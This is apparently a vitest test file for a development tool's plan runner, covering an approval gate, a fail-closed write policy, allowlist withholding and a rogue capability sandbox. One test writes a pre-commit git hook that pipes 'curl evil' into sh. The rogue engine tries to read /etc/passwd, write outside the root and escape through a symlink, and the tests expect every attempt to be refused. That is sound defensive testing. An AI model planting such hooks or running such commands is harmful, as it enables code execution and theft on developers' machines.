/**
 * The plan: the single gate, the policy failing closed at step level, dirty-path withholding (all
 * four rules), the advisory delta's four warnings, a fixer that deletes, renames and creates, a
 * rogue in-process engine, inspection steps, and the write step. Under both resolve strategies.
 */
import * as fs from "node:fs"
import { describe, expect, it } from "vitest"
import { acquire, approveAll, type Capability, type GateRequest, Plan, Policy, Step } from "../../src/dev/index.ts"
import { strategies } from "../support/strategies.ts"
import { disk, expectDiskEqualsWorkspace, openPolicy, setup } from "./support/workspace.ts"

/** An in-process capability that records the allowlist it was given. */
const probe = (name: string, seen: Array<ReadonlyArray<string>>, more: Partial<Capability> = {}): Capability => ({
  name,
  scope: ["src/**"],
  mayCreate: [],
  run: async (access) => {
    seen.push(access.scope)
    return undefined
  },
  ...more
})

describe.each(strategies)("Plan (%s)", (strategy) => {
  const start = async (
    files: Record<string, string>,
    options: { policy?: Policy.Policy | undefined; gate?: (r: GateRequest) => unknown } = {}
  ) => {
    const { s, root } = await setup(strategy, files)
    const ws = await acquire(root, { scope: ["**"] })
    const gate = (options.gate ?? approveAll) as (r: GateRequest) => boolean
    const policy = "policy" in options ? options.policy : openPolicy
    const run = (steps: ReadonlyArray<Step.Step>) => Plan.run(steps, { root, workspace: ws, policy, gate })
    return { s, root, ws, run }
  }

  describe("the single gate", () => {
    it("is asked once per step, with every capability's declared scope, selectors and mayCreate", async () => {
      const asked: Array<GateRequest> = []
      const { run } = await start(
        { "src/a.ts": "a" },
        {
          gate: (r) => {
            asked.push(r)
            return true
          }
        }
      )
      const seen: Array<ReadonlyArray<string>> = []
      const result = await run([
        Step.fix("format", probe("one", seen), probe("two", seen, { selectors: ["src/a.ts"], mayCreate: ["src/gen/**"] })),
        Step.check("inspect", probe("three", seen))
      ])
      expect(result.ok).toBe(true)
      expect(asked).toEqual([
        {
          step: "format",
          kind: "fix",
          capabilities: [
            { name: "one", scope: ["src/**"], selectors: undefined, mayCreate: [], external: false },
            { name: "two", scope: ["src/**"], selectors: ["src/a.ts"], mayCreate: ["src/gen/**"], external: false }
          ]
        },
        {
          step: "inspect",
          kind: "check",
          capabilities: [{ name: "three", scope: ["src/**"], selectors: undefined, mayCreate: [], external: false }]
        }
      ])
      expect(seen).toHaveLength(3)
    })

    it("refused: the step fails, nothing of it runs, nothing is touched, later steps are skipped", async () => {
      const { s, ws, run } = await start({ "src/a.ts": "a" }, { gate: () => false })
      let ran = false
      const touch: Capability = {
        name: "t",
        scope: ["src/**"],
        mayCreate: [],
        run: async (a) => {
          ran = true
          await a.write("src/a.ts", "x")
        }
      }
      const result = await run([Step.edit("e", (e) => e.write("src/b.ts", "b")), Step.fix("f", touch), Step.write()])
      expect(ran).toBe(false)
      expect(result.ok).toBe(false)
      expect(result.steps.map((x) => x.status)).toEqual(["ok", "failed", "skipped"])
      expect(result.steps[1]!.diagnostics.map((d) => [d.severity, d.code])).toEqual([["ERROR", "gate"]])
      expect(disk(s, "src/a.ts")).toBe("a")
      expect(disk(s, "src/b.ts")).toBeUndefined()
      expect(ws.get("src/a.ts")).toBe("a")
    })

    it("only true approves: a throwing gate or a truthy non-boolean refuses", async () => {
      for (const gate of [
        () => {
          throw new Error("operator away")
        },
        () => "yes",
        async () => 1,
        () => undefined
      ]) {
        const { run } = await start({ "src/a.ts": "a" }, { gate })
        let ran = false
        const result = await run([
          Step.fix("f", {
            name: "t",
            scope: ["src/**"],
            mayCreate: [],
            run: async () => {
              ran = true
            }
          })
        ])
        expect([result.ok, ran]).toEqual([false, false])
      }
    })
  })

  describe("the policy fails closed", () => {
    it("no policy: fix, check and write steps fail and touch nothing", async () => {
      const { s, run } = await start({ "src/a.ts": "a" }, { policy: undefined })
      let ran = false
      const cap: Capability = {
        name: "t",
        scope: ["src/**"],
        mayCreate: [],
        run: async () => {
          ran = true
        }
      }
      for (const step of [Step.fix("f", cap), Step.check("c", cap)]) {
        const result = await run([step])
        expect(result.ok).toBe(false)
        expect(result.steps[0]!.diagnostics[0]!.message).toMatch(/no policy is in force/)
      }
      expect(ran).toBe(false)
      const w = await run([Step.edit("e", (e) => e.write("src/a.ts", "edited")), Step.write()])
      expect(w.steps[1]!.status).toBe("failed")
      expect(disk(s, "src/a.ts")).toBe("a")
    })

    it("the write step checks every path before writing any, the mandatory deny set included", async () => {
      const { s, run } = await start({ "src/a.ts": "a" })
      const result = await run([
        Step.edit("e", (e) => {
          e.write("src/a.ts", "edited")
          e.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
        }),
        Step.write()
      ])
      expect(result.steps[1]!.status).toBe("failed")
      expect(result.steps[1]!.diagnostics.map((d) => [d.code, d.path])).toEqual([["refused", ".git/hooks/pre-commit"]])
      expect(disk(s, "src/a.ts")).toBe("a")
      expect(fs.existsSync(s.abs(".git"))).toBe(false)
    })

    it("a policy-refused path in the envelope is withheld from the allowlist, with a warning", async () => {
      const seen: Array<ReadonlyArray<string>> = []
      const { ws, run } = await start({ "src/a.ts": "a", ".vscode/settings.json": "{}" })
      const result = await run([Step.fix("f", probe("p", seen, { scope: ["**"] }))])
      expect(seen).toEqual([["src/a.ts"]])
      expect(result.steps[0]!.capabilities[0]!.withheld).toEqual([
        { path: ".vscode/settings.json", reason: "policy", message: expect.stringMatching(/mandatory deny set/) }
      ])
      expect(ws.diagnostics.filter((d) => d.code === "withheld").map((d) => [d.severity, d.path])).toEqual([
        ["WARNING", ".vscode/settings.json"]
      ])
    })
  })

  describe("dirty-path withholding", () => {
    it("a path dirty in memory is withheld from a fixer's allowlist, with a warning", async () => {
      const seen: Array<ReadonlyArray<string>> = []
      const { run } = await start({ "src/a.ts": "a", "src/b.ts": "b" })
      const result = await run([Step.edit("e", (e) => e.write("src/a.ts", "edited")), Step.fix("f", probe("p", seen))])
      expect(seen).toEqual([["src/b.ts"]])
      expect(result.steps[1]!.diagnostics.filter((d) => d.code === "withheld").map((d) => [d.severity, d.path])).toEqual([
        ["WARNING", "src/a.ts"]
      ])
      expect(result.ok).toBe(true)
    })

    it("a path reconciled by a fixer's re-read is no longer dirty: fixers compose back to back", async () => {
      const seen: Array<ReadonlyArray<string>> = []
      const { s, ws, run } = await start({ "src/a.ts": "a" })
      // The first fixer rewrites src/a.ts and creates src/made.ts on disk; its re-read takes both
      // into memory. Memory now differs from what it held before the step, but it equals the disk,
      // so neither is dirty and the fixers after it are given both.
      const creator: Capability = {
        name: "creator",
        scope: ["src/**"],
        mayCreate: ["src/**"],
        run: async () => {
          fs.writeFileSync(s.abs("src/a.ts"), "a fixed\n")
          fs.writeFileSync(s.abs("src/made.ts"), "made\n")
        }
      }
      const result = await run([Step.fix("f", creator, probe("second", seen), probe("third", seen))])
      expect(result.ok).toBe(true)
      expect(ws.dirtyPaths()).toEqual([])
      expect(ws.get("src/a.ts")).toBe("a fixed\n")
      expect(seen).toEqual([
        ["src/a.ts", "src/made.ts"],
        ["src/a.ts", "src/made.ts"]
      ])
    })

    it("an edit that leaves identical text withholds nothing", async () => {
      const seen: Array<ReadonlyArray<string>> = []
      const { run } = await start({ "src/a.ts": "a", "src/b.ts": "b" })
      const result = await run([Step.edit("e", (e) => e.write("src/a.ts", "a")), Step.fix("f", probe("p", seen))])
      expect(seen).toEqual([["src/a.ts", "src/b.ts"]])
      expect(result.steps[1]!.capabilities[0]!.withheld).toEqual([])
    })

    it("allowlists are recomputed before every capability, not frozen when the step starts", async () => {
      const seen: Array<ReadonlyArray<string>> = []
      const { s, run } = await start({ "src/a.ts": "a", "src/gone.ts": "g" })
      const changer: Capability = {
        name: "changer",
        scope: ["src/**"],
        mayCreate: ["src/**"],
        run: async (access) => {
          await access.write("src/new.ts", "n")
          await access.delete("src/gone.ts")
          return { changes: [{ path: "src/new.ts" }, { path: "src/gone.ts" }] }
        }
      }
      const result = await run([Step.fix("f", probe("before", seen), changer, probe("after", seen))])
      expect(result.ok).toBe(true)
      expect(seen).toEqual([
        ["src/a.ts", "src/gone.ts"],
        ["src/a.ts", "src/new.ts"]
      ])
      expect(disk(s, "src/gone.ts")).toBeUndefined()
    })

    it("write, then the fixer gets the path: edit → fixer (withheld) → write → fixer (permitted)", async () => {
      const seen: Array<ReadonlyArray<string>> = []
      const { s, ws, run } = await start({ "src/a.ts": "a" })
      const result = await run([
        Step.edit("edit", (e) => e.write("src/a.ts", "edited")),
        Step.fix("first", probe("p1", seen)),
        Step.write(),
        Step.fix("second", probe("p2", seen))
      ])
      expect(result.ok).toBe(true)
      expect(seen).toEqual([[], ["src/a.ts"]])
      expect(disk(s, "src/a.ts")).toBe("edited")
      expectDiskEqualsWorkspace(s, ws)
    })
  })

  describe("the advisory delta: warnings, never a failed step", () => {
    const fixer = (changes: unknown, effect: (access: Parameters<Capability["run"]>[0]) => Promise<void>): Capability => ({
      name: "claimer",
      scope: ["src/**"],
      mayCreate: [],
      run: async (access) => {
        await effect(access)
        return changes
      }
    })

    it("claimed but unchanged", async () => {
      const { ws, run } = await start({ "src/a.ts": "a", "src/b.ts": "b" })
      const result = await run([
        Step.fix(
          "f",
          fixer({ changes: [{ path: "src/a.ts" }, { path: "src/b.ts" }] }, (a) => a.write("src/a.ts", "A"))
        )
      ])
      expect(result.ok).toBe(true)
      expect(ws.diagnostics.filter((d) => d.code === "claimed-unchanged").map((d) => [d.severity, d.path])).toEqual([
        ["WARNING", "src/b.ts"]
      ])
    })

    it("changed but unclaimed", async () => {
      const { ws, run } = await start({ "src/a.ts": "a", "src/b.ts": "b" })
      const result = await run([
        Step.fix(
          "f",
          fixer({ changes: [{ path: "src/a.ts" }] }, async (a) => {
            await a.write("src/a.ts", "A")
            await a.write("src/b.ts", "B")
          })
        )
      ])
      expect(result.ok).toBe(true)
      expect(ws.diagnostics.filter((d) => d.code === "changed-unclaimed").map((d) => [d.severity, d.path])).toEqual([
        ["WARNING", "src/b.ts"]
      ])
      expect(ws.get("src/b.ts")).toBe("B") // the re-read, not the claim, decides
    })

    it("claimed unauthorized", async () => {
      const { s, ws, run } = await start({ "src/a.ts": "a", "lib/x.ts": "x" })
      const result = await run([
        Step.fix(
          "f",
          fixer({ changes: [{ path: "lib/x.ts" }, { path: "/etc/passwd" }] }, async () => {})
        )
      ])
      expect(result.ok).toBe(true)
      expect(ws.diagnostics.filter((d) => d.code === "claimed-unauthorized").map((d) => [d.severity, d.path])).toEqual([
        ["WARNING", "/etc/passwd"],
        ["WARNING", "lib/x.ts"]
      ])
      expect(disk(s, "lib/x.ts")).toBe("x")
      expect(ws.get("lib/x.ts")).toBe("x") // claims are never applied
    })

    it("unparseable", async () => {
      for (const bad of [
        42,
        null,
        "done",
        [],
        { changes: "src/a.ts" },
        { changes: [{ file: "src/a.ts" }] },
        { diagnostics: [{ severity: "FATAL", message: "x" }] }
      ]) {
        const { ws, run } = await start({ "src/a.ts": "a" })
        const result = await run([
          Step.fix(
            "f",
            fixer(bad, (a) => a.write("src/a.ts", "A"))
          )
        ])
        expect(result.ok).toBe(true)
        expect(ws.diagnostics.filter((d) => d.code === "unparseable-delta").map((d) => d.severity)).toEqual(["WARNING"])
        expect(ws.get("src/a.ts")).toBe("A")
      }
    })

    it("only the delta's diagnostics are taken: an engine's ERROR fails the step", async () => {
      const { ws, run } = await start({ "src/a.ts": "a" })
      const result = await run([
        Step.fix(
          "f",
          fixer({ diagnostics: [{ severity: "ERROR", path: "src/a.ts", message: "cannot parse" }], changes: [] }, async () => {})
        )
      ])
      expect(result.ok).toBe(false)
      expect(ws.diagnostics.filter((d) => d.code === "engine").map((d) => [d.severity, d.path, d.message])).toEqual([
        ["ERROR", "src/a.ts", "cannot parse"]
      ])
    })
  })

  it("a fixer that deletes, renames and creates: the workspace follows the disk", async () => {
    const { s, ws, run } = await start({ "src/a.ts": "a\n", "src/b.ts": "b\n", "src/c.ts": "c\n" })
    const codemod: Capability = {
      name: "codemod",
      scope: ["src/**"],
      mayCreate: ["src/gen/**"],
      run: async (access) => {
        await access.delete("src/b.ts")
        await access.rename("src/c.ts", "src/gen/c.ts")
        await access.write("src/gen/index.ts", "export * from './c'\n")
        await access.write("src/a.ts", "a2\n")
        return {
          changes: [{ path: "src/b.ts" }, { path: "src/c.ts", to: "src/gen/c.ts" }, { path: "src/gen/index.ts" }, { path: "src/a.ts" }]
        }
      }
    }
    const result = await run([Step.fix("f", codemod)])
    expect(result.ok).toBe(true)
    expect(result.steps[0]!.diagnostics).toEqual([])
    expect(ws.paths()).toEqual(["src/a.ts", "src/gen/c.ts", "src/gen/index.ts"])
    expect([...ws.pendingDeletions]).toEqual([])
    const r = result.steps[0]!.capabilities[0]!.reread!
    expect([r.changed, r.dropped, r.admitted]).toEqual([["src/a.ts"], ["src/b.ts", "src/c.ts"], ["src/gen/c.ts", "src/gen/index.ts"]])
    expectDiskEqualsWorkspace(s, ws)
  })

  it("a rogue in-process engine reading and writing outside its allowlist: refused, and the step reported", async () => {
    const { s, ws, run } = await start({ "src/a.ts": "a", "src/other.ts": "o", "notes/plan.md": "p" })
    const attempts: Array<string> = []
    const rogue: Capability = {
      name: "rogue",
      scope: ["src/**"],
      selectors: ["src/a.ts"],
      mayCreate: [],
      run: async (access) => {
        for (const attempt of [
          () => access.read("src/other.ts"),
          () => access.read("notes/plan.md"),
          () => access.read("/etc/passwd"),
          () => access.write("src/other.ts", "hijacked"),
          () => access.write("notes/evil.md", "x"),
          () => access.write("../outside/secret.txt", "x"),
          () => access.write(".git/hooks/pre-commit", "x"),
          () => access.delete("notes/plan.md"),
          () => access.rename("src/a.ts", "notes/stolen.ts")
        ]) {
          // It swallows every refusal and carries on, hoping no one notices.
          await attempt().then(
            () => attempts.push("allowed"),
            (e: Error) => attempts.push(e.name)
          )
        }
        await access.write("src/a.ts", "formatted")
        return { changes: [{ path: "src/a.ts" }] }
      }
    }
    const result = await run([Step.fix("f", rogue), Step.write()])
    expect(attempts.every((a) => a === "PinnedFsError")).toBe(true)
    expect(result.ok).toBe(false)
    expect(result.steps.map((x) => x.status)).toEqual(["failed", "skipped"])
    const refused = result.steps[0]!.diagnostics.filter((d) => d.code === "refused")
    expect(refused.map((d) => d.severity)).toEqual(Array(9).fill("ERROR"))
    expect(refused.map((d) => d.path)).toEqual([
      "src/other.ts",
      "notes/plan.md",
      "/etc/passwd",
      "src/other.ts",
      "notes/evil.md",
      "../outside/secret.txt",
      ".git/hooks/pre-commit",
      "notes/plan.md",
      "src/a.ts"
    ])
    expect([disk(s, "src/other.ts"), disk(s, "notes/plan.md"), disk(s, "notes/evil.md")]).toEqual(["o", "p", undefined])
    expect(fs.readFileSync(s.secret, "utf8")).toBe("TOP SECRET")
    // What it did inside its allowlist was reconciled, then the failed step was rolled back.
    expect(result.steps[0]!.restore).toEqual({ restored: ["src/a.ts"], kept: [] })
    expect([disk(s, "src/a.ts"), ws.get("src/a.ts")]).toEqual(["a", "a"])
  })

  describe("inspection steps", () => {
    it("a check capability must declare mayCreate: []", async () => {
      const { run } = await start({ "src/a.ts": "a" })
      const result = await run([Step.check("c", { name: "x", scope: ["src/**"], mayCreate: ["src/**"], run: async () => {} })])
      expect(result.steps[0]!.diagnostics[0]!.message).toMatch(/a check creates nothing/)
    })

    it("its façade refuses every mutation; a change made around it is re-read and warned about", async () => {
      const { s, ws, run } = await start({ "src/a.ts": "a" })
      const sneaky: Capability = {
        name: "sneaky-check",
        scope: ["src/**"],
        mayCreate: [],
        run: async (access) => {
          await access.write("src/a.ts", "x").catch(() => undefined)
          fs.writeFileSync(s.abs("src/a.ts"), "changed by a child process")
        }
      }
      const result = await run([Step.check("c", sneaky)])
      expect(result.steps[0]!.diagnostics.map((d) => [d.severity, d.code])).toEqual([
        ["ERROR", "refused"],
        ["WARNING", "inspection-changed"]
      ])
      expect(ws.get("src/a.ts")).toBe("changed by a child process")
    })
  })

  describe("the write step", () => {
    it("flushes dirty paths atomically and carries out pending deletions; parents through mkdirs", async () => {
      const { s, ws, run } = await start({ "src/a.ts": "a", "src/old.ts": "o" })
      const result = await run([
        Step.edit("e", (e) => {
          e.write("src/a.ts", "A")
          e.write("src/deep/er/new.ts", "N")
          e.delete("src/old.ts")
        }),
        Step.write()
      ])
      expect(result.ok).toBe(true)
      expect(result.steps[1]!.written).toEqual(["src/a.ts", "src/deep/er/new.ts"])
      expect(result.steps[1]!.deleted).toEqual(["src/old.ts"])
      expect([disk(s, "src/a.ts"), disk(s, "src/deep/er/new.ts"), disk(s, "src/old.ts")]).toEqual(["A", "N", undefined])
      expect(ws.dirtyPaths()).toEqual([])
      expect([...ws.pendingDeletions]).toEqual([])
      expectDiskEqualsWorkspace(s, ws)
    })

    it("checks each missing parent against the policy", async () => {
      const { s, run } = await start(
        { "src/a.ts": "a" },
        { policy: Policy.fromRules({ read: ["**"], write: ["src/**/*.ts", "src/deep"] }) }
      )
      const result = await run([Step.edit("e", (e) => e.write("src/deep/er/new.ts", "N")), Step.write()])
      expect(result.steps[1]!.status).toBe("failed")
      expect(result.steps[1]!.diagnostics[0]!.message).toMatch(/src\/deep\/er/)
      expect(fs.existsSync(s.abs("src/deep"))).toBe(false)
    })

    it("never writes through a link planted where a parent is", async () => {
      const { s, run } = await start({ "src/a.ts": "a" })
      fs.symlinkSync(s.outside, s.abs("src/out"))
      const result = await run([Step.edit("e", (e) => e.write("src/out/x.ts", "x")), Step.write()])
      expect(result.ok).toBe(false)
      expect(fs.readdirSync(s.outside)).toEqual(["secret.txt"])
    })
  })
})
